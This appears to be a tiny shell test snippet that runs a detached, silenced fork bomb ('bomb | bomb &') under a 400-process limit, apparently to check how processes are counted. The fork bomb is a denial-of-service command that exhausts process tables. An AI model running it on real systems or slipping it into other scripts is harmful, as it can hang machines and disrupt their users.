# More processes than anybody counts.
# alone
setsid bash -c 'ulimit -u 400; bomb() { bomb | bomb & }; bomb' >/dev/null 2>&1 </dev/null &
sleep 0.5
